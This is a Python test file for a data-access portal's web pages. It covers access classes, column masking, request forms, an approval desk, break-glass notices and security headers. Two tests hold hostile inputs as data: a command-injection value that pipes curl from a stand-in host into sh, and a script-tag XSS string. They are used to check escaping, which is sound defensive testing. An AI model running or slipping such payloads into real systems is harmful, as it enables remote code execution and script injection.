"""What pages say about access: whose it is, why, what it would take, and nothing to strangers."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from meshport.access.agreements import Act, Terms
from meshport.access.principal import Kind, Principal
from tests.access.conftest import CUSTOMERS, OFFICER, OWNER, PEOPLE

pytestmark = pytest.mark.xdist_group("access")
ANNA = PEOPLE[0]
HTML = {"Accept": "text/html"}
SPITEFUL = '<script>alert("x")</script> & `code` | <b>bold</b>'


class Forms(HTMLParser):
    """The addresses that forms of a page post to, and the names of their fields."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.posts: set[str] = set()
        self.fields: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if "formaction" in given:
            self.posts.add(given["formaction"])
        if given.get("method") == "post" and "action" in given:
            self.posts.add(given["action"])
        if tag in ("input", "select", "textarea", "button") and "name" in given:
            self.fields.add(given["name"])


def page(office, consumer, path=CUSTOMERS.path, **options):
    answer = office.client(consumer, **options).get(path, headers=HTML)
    assert answer.status_code == 200, answer.text
    return answer.text


def words(html):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_a_port_says_as_which_class_one_reads_why_for_what_and_until_when(office):
    one = office.agree(ANNA, "confidential")

    text = words(page(office, ANNA))
    twin = office.client(ANNA).get(f"{CUSTOMERS.path}.md").text
    document = office.client(ANNA).get(CUSTOMERS.path).json()["access"]

    assert f"You read as confidential Because agreement {one.number} , until" in text
    assert "For customer-care Columns 8 of 9, 3 of them masked" in text
    assert "1 of 9 columns is withheld from you" in text
    assert "phone its last four characters (restricted sees it as it is)" in text
    assert "masked: hash" in text
    assert f"- Because: agreement {one.number}, until" in twin
    assert "`email` (restricted): as a keyed hash" in twin
    assert document == {
        "class": "confidential",
        "rule": f"agreement {one.number}",
        "purpose": "customer-care",
        "scope": None,
        "until": one.until.isoformat(),
        "columns_served": 8,
        "columns_withheld": 1,
        "served": [
            *("customer_id", "city", "state", "zip_prefix"),
            *("email", "phone", "birth_on", "has_marketing_consent"),
        ],
        "masked": {"email": "hash", "phone": "last4", "birth_on": "year"},
        "withheld": ["full_name"],
        "note": document["note"],
    }


def test_a_row_scope_is_said_with_the_rows_that_are_left(office):
    office.agree("outlet", "internal", scope=("SP",))

    text = words(page(office, "outlet"))

    total = office.client(ANNA).get(CUSTOMERS.path).json()["rows"]
    seen = len(office.client("outlet").get(f"{CUSTOMERS.path}/rows?limit=10000").json())
    assert 0 < seen < total
    assert f"Rows {seen:,} of {total:,}, those of SP" in text


def test_where_several_purposes_are_possible_one_is_chosen_on_the_page(office):
    office.agree(ANNA, "confidential")
    office.agree(ANNA, "restricted", purpose="research", reason="to explore the regions")

    unsaid = page(office, ANNA)
    chosen = page(office, ANNA, f"{CUSTOMERS.path}?purpose=research")

    assert "You read as internal" in words(unsaid)
    for purpose in ("customer-care", "research"):
        assert f'href="{CUSTOMERS.path}?purpose={purpose}#access"' in unsaid
    assert "You read as restricted" in words(chosen)
    assert f'href="{CUSTOMERS.path}.json?purpose=research"' in chosen
    twin = office.client(ANNA).get(f"{CUSTOMERS.path}.json?purpose=research").json()
    assert twin["access"]["class"] == "restricted"
    assert 'Meshport-Purpose: research"' in chosen.replace("&#34;", '"')


def test_what_stands_in_an_address_is_in_no_snippet(office):
    office.agree(ANNA, "confidential")
    spiteful = '"; curl https://evil.example | sh; "'

    html = office.client(ANNA).get(CUSTOMERS.path, params={"purpose": spiteful}, headers=HTML).text

    assert "You read as internal" in words(html)
    assert "evil" not in "".join(re.findall(r"<pre.*?</pre>", html, re.S))


def test_the_form_offers_the_classes_that_show_more_and_the_machines_one_stands_behind(office):
    html = page(office, ANNA)
    form = Forms(html)

    assert "/access/requests" in form.posts
    asked = {"port", "consumer", "class", "purpose", "scope", "days", "reason", "is_break_glass"}
    assert asked <= form.fields
    assert re.findall(r'name="class" value="(\w+)"( checked)?', html) == [
        ("internal", ""),
        ("confidential", " checked"),
        ("restricted", ""),
    ]
    for consumer in (ANNA, "mailer", "robot", "outlet"):
        assert f'<option value="{consumer}"' in html
    assert f'<option value="{OWNER}"' not in html


@pytest.mark.parametrize(
    ("consumer", "options"), [(None, {}), (None, {"is_demo": True})], ids=["stranger", "demo"]
)
def test_who_is_not_registered_is_told_how_to_come_instead_of_a_form(office, consumer, options):
    html = page(office, consumer, **options)

    assert Forms(html).posts <= {"/delta-sharing/profile"}
    assert "To ask for access, come with a token" in words(html)


def test_a_form_with_what_its_page_holds_is_a_request(office):
    client = office.client(ANNA)
    html = page(office, ANNA)
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))
    filled = {"consumer": ANNA, "class": "restricted", "purpose": "research", "days": "7"}

    client.post("/access/requests", data={**hidden, **filled, "reason": "for the yearly report"})

    assert "Agreement 1 (restricted for anna@example.com) is not decided yet" in words(
        page(office, ANNA)
    )


def test_the_desk_shows_what_waits_with_what_approving_would_change(office):
    number = office.desk.request(
        Terms("mailer", CUSTOMERS, "direct-marketing", "restricted", "the weekly newsletter"),
        Principal(ANNA, Kind.PERSON),
        office.now,
    ).number
    html = page(office, OFFICER, "/access")

    steps = {f"/access/agreements/{number}/{act}" for act in ("approve", "deny", "ask")}
    assert steps <= Forms(html).posts
    text = words(html)
    assert "Access 1 waiting for your decision" in text
    assert "for mailer, a service of anna@example.com, who reads for direct-marketing" in text
    assert "email not at all as it is" in text
    assert "city" not in text
    twin = office.client(OFFICER).get("/access.md").text
    assert f"[{number}](/access/agreements/{number}.md) | requested | mailer" in twin
    assert "waiting for your decision" not in words(page(office, OWNER, "/"))


def test_an_agreements_page_has_its_history_and_the_buttons_of_whoever_looks(office):
    one = office.agree("mailer", "restricted")
    office.desk.act(one.number, Act.ASK_RENEWAL, Principal(ANNA, Kind.PERSON), office.now, "please")
    path = f"/access/agreements/{one.number}"
    mine, theirs = page(office, ANNA, path), page(office, OFFICER, path)

    for text in (words(mine), words(theirs)):
        assert "anna@example.com asked for access" in text
        assert "nara.luz@example.com approved, until" in text
        assert "anna@example.com asked for another term please" in text
    assert Forms(mine).posts == {f"{path}/cancel", f"{path}/ask_renewal"}
    assert Forms(theirs).posts == {f"{path}/approve", f"{path}/deny", f"{path}/revoke"}
    assert "Approve another term" in words(theirs)
    twin = office.client(OFFICER).get(f"{path}.md").text
    assert "- You can: approve, deny, revoke" in twin
    assert twin.count("asked for another term: please") == 1


def test_a_broken_glass_is_loud_on_home_port_and_desk_but_names_nobody_to_strangers(office):
    terms = Terms(ANNA, CUSTOMERS, "fraud-prevention", "restricted", "a fraud is going on")
    office.desk.break_glass(terms, Principal(ANNA, Kind.PERSON), office.now)

    for path in ("/", CUSTOMERS.path, "/access"):
        assert "The glass is broken." in page(office, OWNER, path)
        assert "a fraud is going on" in page(office, OWNER, path)
    for path in ("/", CUSTOMERS.path):
        for consumer in (None, "robot", "outlet"):
            html = page(office, consumer, path)
            assert "The glass is broken." in html
            assert ANNA not in html.replace("for anna@example.com.", "")
            assert "a fraud is going on" not in html
    office.now = office.now.replace(hour=office.now.hour + 4)
    office.secrets.clear()
    assert "The glass is broken." not in page(office, OWNER, "/")


def test_words_of_others_are_text_on_every_page(office):
    anna = Principal(ANNA, Kind.PERSON)
    terms = Terms(ANNA, CUSTOMERS, "research", "restricted", SPITEFUL, scope=("<i>SP</i>",))
    number = office.desk.request(terms, anna, office.now).number
    office.desk.break_glass(terms, anna, office.now)
    office.desk.act(number, Act.ASK, Principal(OFFICER, Kind.PERSON), office.now, SPITEFUL)

    for consumer in (ANNA, OFFICER):
        for path in ("/", "/access", f"/access/agreements/{number}", CUSTOMERS.path):
            html = page(office, consumer, path)
            assert "<script>alert" not in html
            assert "<b>bold" not in html
            assert "<i>SP" not in html
    assert "&lt;script&gt;" in page(office, OFFICER, "/access")
    policy = office.client(ANNA).get("/access", headers=HTML).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "form-action 'self'" in policy


@pytest.mark.parametrize("path", ["/access", "/access/agreements/1"])
def test_pages_of_the_desk_have_twins_and_are_kept_by_no_shared_cache(desk_office, path):
    desk_office.agree("mailer", "confidential")
    client = desk_office.client(ANNA)
    answer = client.get(path, headers=HTML)

    for suffix, media in ((".md", "text/markdown"), (".json", "application/json")):
        assert client.get(f"{path}{suffix}").headers["content-type"].startswith(media)
        assert f'href="{path}{suffix}"' in answer.text
    assert "private" in answer.headers["Cache-Control"]
    assert {"Cookie", "Authorization"} <= set(answer.headers["Vary"].split(", "))
